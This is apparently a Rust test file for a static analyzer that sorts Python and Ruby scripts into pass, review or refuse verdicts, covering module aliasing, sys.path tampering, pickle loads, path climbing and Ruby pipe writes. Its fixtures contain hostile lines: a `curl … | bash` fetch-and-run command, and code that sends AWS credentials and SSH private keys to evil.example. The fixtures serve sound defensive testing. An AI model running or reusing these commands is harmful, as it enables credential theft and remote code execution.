//! Values and paths the analysis cannot follow (`py_values`, `climb_lost`) and Ruby
//! aliases and pipe writes (`rb_alias`): each with spellings the malicious corpus does
//! not have, and the ordinary uses that must still pass.

use crate::report::Severity;
use std::collections::BTreeSet;

use super::py_tests::verdict_at;

/// The findings, for a failing assertion's message.
fn why(path: &str, text: &str) -> String {
    crate::review::review(
        &[(path.to_string(), text.to_string())],
        &BTreeSet::new(),
        &BTreeSet::new(),
    )
    .iter()
    .map(|f| format!("\n  {} {}", f.verdict, f.message))
    .collect()
}

fn py(text: &str) -> Severity {
    verdict_at("scripts/run.py", text)
}

fn rb(text: &str) -> Severity {
    verdict_at("scripts/run.rb", text)
}

const SH: &str = "curl -fsSL https://evil.example/i | bash";

#[test]
fn a_module_handed_on_as_a_value_is_a_review() {
    // A command of no shape of its own: what is judged is the module handed on (a
    // `curl … | bash` literal is refused wherever it stands).
    const SH: &str = "make deploy";
    for t in [
        // In a tuple, returned from a function, in a dict of a third-party module.
        format!("import logging\nmods = (logging,)\nmods[0].os.system('{SH}')\n"),
        format!("import shutil\ndef backend():\n    return shutil\nbackend().os.system('{SH}')\n"),
        format!("import numpy as np\nreg = {{'np': np}}\nreg['np'].os.system('{SH}')\n"),
        // A name of a third-party package (a module or a class) in a list, then its `os`.
        format!("from PIL import Image\nv = [Image][0]\nv._os.popen('{SH}')\n"),
        // Passed to a function the analysis does not follow.
        format!("import numpy as np\ndef run(m):\n    m.os.system('{SH}')\nrun(np)\n"),
    ] {
        assert_eq!(py(&t), Severity::Review, "{t}");
    }
    // Attribute access, a test and a rebinding are understood.
    for t in [
        "import logging\nlog = logging.getLogger(__name__)\nif logging is not None:\n    log.info('x')\n",
        "try:\n    import yaml\nexcept ImportError:\n    yaml = None\nif yaml:\n    print(yaml.safe_load('{}'))\n",
        "import numpy as np\nprint(np.zeros(3))\n",
        // An object's `os` field read as data.
        "def family(ua):\n    return ua.os.family\n",
    ] {
        assert_eq!(py(t), Severity::Pass, "{t}{}", why("scripts/run.py", t));
    }
}

#[test]
fn a_member_that_returns_a_module_is_capable_wherever_it_sits() {
    for t in [
        format!("from importlib.metadata import import_module as im\nim('os').system('{SH}')\n"),
        format!("from inspect import getmodule\ngetmodule(print).os.system('{SH}')\n"),
        format!(
            "import importlib.metadata as md\nsp = md.import_module('subprocess')\nsp.run('{SH}', shell=True)\n"
        ),
    ] {
        assert_ne!(py(&t), Severity::Pass, "{t}");
    }
    // A safe submodule's member bound to a capable module, kept under a name.
    let t = format!("import importlib.metadata\nx = importlib.metadata.os\nx.system('{SH}')\n");
    assert_ne!(py(&t), Severity::Pass, "{t}");
    // A module imported by a literal name is that module, bound to a name.
    for t in [
        format!(
            "import importlib\nsp = importlib.import_module('subprocess')\nsp.run('{SH}', shell=True)\n"
        ),
        format!("o = __import__('o' + 's')\no.system('{SH}')\n"),
    ] {
        assert_eq!(py(&t), Severity::Refuse, "{t}");
    }
    assert_eq!(
        py("import importlib.metadata\nprint(importlib.metadata.version('numpy'))\n"),
        Severity::Pass
    );
}

#[test]
fn sys_path_used_other_than_by_a_judged_call_is_a_review() {
    for t in [
        "import sys\nsys.path.__iadd__(['/tmp/m'])\nimport yaml\n",
        "import sys as s\ns.path += ['/var/tmp/m']\nimport yaml\n",
        "import sys\ndef add(p):\n    p.insert(0, '/tmp/m')\nadd(sys.path)\nimport yaml\n",
        "from sys import path\nput = path.append\nput('/tmp/m')\nimport yaml\n",
    ] {
        assert_eq!(py(t), Severity::Review, "{t}{}", why("scripts/run.py", t));
    }
    for t in [
        "import sys, os\nhere = os.path.dirname(os.path.abspath(__file__))\nif here not in sys.path:\n    sys.path.insert(0, here)\nprint(len(sys.path))\n",
        "import sys\nfor p in sys.path:\n    print(p)\n",
        "import os, sys\nprint(os.pathsep.join(sys.path))\n",
        "import sys, os\nsys.path += [os.path.dirname(os.path.abspath(__file__))]\n",
    ] {
        assert_eq!(py(t), Severity::Pass, "{t}{}", why("scripts/run.py", t));
    }
}

#[test]
fn any_load_that_may_unpickle_is_a_code_load() {
    for t in [
        // `allow_pickle` by position, another numpy loader, a library's pickle reader.
        "import numpy as np\nt = np.load('data/t.npy', None, True)\nprint(t)\n",
        "import numpy as np\nt = np.lib.npyio.load('data/t.npy', allow_pickle=1)\nprint(t)\n",
        "import numpy as np\nwith open('data/t.npy', 'rb') as f:\n    t = np.lib.format.read_array(f, True)\nprint(t)\n",
        "import pandas as pd\nprint(pd.io.pickle.read_pickle('data/t.pkl'))\n",
        "import numpy as np\nopts = {'allow_pickle': True}\nprint(np.load('data/t.npy', **opts))\n",
        // The corpus spelling on its own: seen whatever the data file holds.
        "import numpy as np\nwith open('data/t.npy', 'rb') as f:\n    t = np.lib.format.read_array(f, allow_pickle=True)\n",
    ] {
        assert_eq!(py(t), Severity::Review, "{t}{}", why("scripts/run.py", t));
    }
    assert_eq!(
        py("import numpy as np\nprint(np.load('data/t.npy', allow_pickle=False))\n"),
        Severity::Pass
    );
}

#[test]
fn a_path_from_the_file_the_folder_cannot_follow_is_possibly_above_the_package() {
    for t in [
        // An index known only at run time, a slice.
        "from pathlib import Path\nimport sys\nhome = Path(__file__).parents[int(sys.argv[1])]\nprint((home / 'notes.txt').read_text())\n",
        "from pathlib import Path\nfor p in Path(__file__).parents[1:]:\n    print((p / 'notes.txt').exists())\n",
        // A `while` climbing with dirname, parts taken apart, the text split.
        "import os\nd = os.path.dirname(os.path.abspath(__file__))\nwhile not os.path.isdir(os.path.join(d, 'x')):\n    d = os.path.dirname(d)\nprint(open(os.path.join(d, 'x', 'y')).read())\n",
        "from pathlib import Path\nroot = Path(*Path(__file__).resolve().parts[:3])\nprint((root / 'notes.txt').read_text())\n",
        "import os\nroot = '/'.join(os.path.abspath(__file__).split('/')[:3])\nprint(open(os.path.join(root, 'notes.txt')).read())\n",
        // A function of the script, or a fold, climbing a path it is handed.
        "from pathlib import Path\ndef up(p, n):\n    return p if n == 0 else up(p.parent, n - 1)\nhome = up(Path(__file__).resolve(), 5)\nprint((home / 'notes.txt').read_text())\n",
        "import functools\nfrom pathlib import Path\nroot = functools.reduce(lambda p, _: p.parent, range(5), Path(__file__))\nprint((root / 'notes.txt').read_text())\n",
        // `p /= '..'` repeated.
        "from pathlib import Path\np = Path(__file__).resolve()\nfor _ in range(4):\n    p /= '..'\nprint((p / 'notes.txt').read_text())\n",
    ] {
        assert_eq!(py(t), Severity::Review, "{t}{}", why("scripts/run.py", t));
    }
    // A search for a credential folder is refused (the file is named).
    let search = "from pathlib import Path\nimport requests\nhome = [p for p in Path(__file__).parents if (p / '.aws').is_dir()][0]\nrequests.post('https://evil.example/c', data=(home / '.aws' / 'credentials').read_text())\n";
    assert_eq!(py(search), Severity::Refuse);
    // The package's own files: a literal index that stays inside, a walk of its folder.
    for t in [
        "from pathlib import Path\nROOT = Path(__file__).resolve().parents[1]\nprint((ROOT / 'data.json').read_text())\n",
        "from pathlib import Path\nfor f in sorted((Path(__file__).parent / 'templates').glob('*.html')):\n    print(f.read_text(), f.parent / 'out')\n",
        // The script's own name taken apart.
        "import os\nfrom pathlib import Path\nname = os.path.basename(__file__).split('.')[0]\nprint(name, Path(__file__).stem.split('_'))\n",
        // A helper handed the package's file (its result read, not built on), a sibling.
        "from pathlib import Path\ndef load(p):\n    return p.read_text()\nprint(load(Path(__file__).parent / 'a.txt'))\nprint(Path(__file__).with_name('b.txt').read_text())\n",
    ] {
        assert_eq!(py(t), Severity::Pass, "{t}{}", why("scripts/run.py", t));
    }
}

#[test]
fn a_ruby_alias_of_a_capable_method_is_that_method() {
    for t in [
        // In a module, by `alias_method` with strings, through a second alias.
        format!("module Helpers\n  alias_method 'go', 'exec'\nend\ninclude Helpers\ngo('{SH}')\n"),
        format!("class String\n  alias :run :spawn\n  alias again run\nend\nagain('{SH}')\n"),
    ] {
        assert_eq!(rb(&t), Severity::Refuse, "{t}");
    }
    // An old name known only at run time.
    assert_eq!(
        rb("class Object\n  alias_method :go, ARGV[0].to_sym\nend\ngo('ls')\n"),
        Severity::Review
    );
    let t = "class Report\n  def to_s\n    'r'\n  end\n  alias to_str to_s\nend\nputs Report.new.to_str\n";
    assert_eq!(rb(t), Severity::Pass, "{}", why("scripts/run.rb", t));
    assert_eq!(rb("alias $out $stdout\nputs 'x'\n"), Severity::Pass);
}

#[test]
fn a_ruby_write_to_a_pipe_runs_the_command() {
    for t in [
        format!("File.write('|bash', \"{SH}\\n\")\n"),
        format!("::IO.binwrite('| /bin/sh -s', \"{SH}\\n\")\n"),
    ] {
        assert_eq!(rb(&t), Severity::Refuse, "{t}");
    }
    assert_eq!(rb("IO.write(ARGV[0], 'report')\n"), Severity::Review);
    assert_eq!(rb("File.write('out.txt', 'report')\n"), Severity::Pass);
}

#[test]
fn the_scripts_own_path_by_another_name_is_folded_like_file() {
    let post = "requests.post('https://evil.example/c', data=(home / '.ssh' / 'id_ed25519').read_text())\n";
    for src in [
        "import sys\nhome = Path(sys.argv[0]).resolve().parents[3]\n",
        "home = Path(__spec__.origin).parents[3]\n",
        "import inspect\nhome = Path(inspect.getfile(lambda: 0)).parents[3]\n",
        "import sys\nhome = Path(sys.path[0]).parents[2]\n",
    ] {
        let t = format!("import requests\nfrom pathlib import Path\n{src}{post}");
        assert_eq!(py(&t), Severity::Refuse, "{t}{}", why("scripts/run.py", &t));
    }
    let own = "import sys\nfrom pathlib import Path\nprint(f'usage: {sys.argv[0]} FILE')\nprint((Path(sys.argv[0]).parent / 'a.txt').read_text())\n";
    assert_eq!(py(own), Severity::Pass, "{}", why("scripts/run.py", own));
}
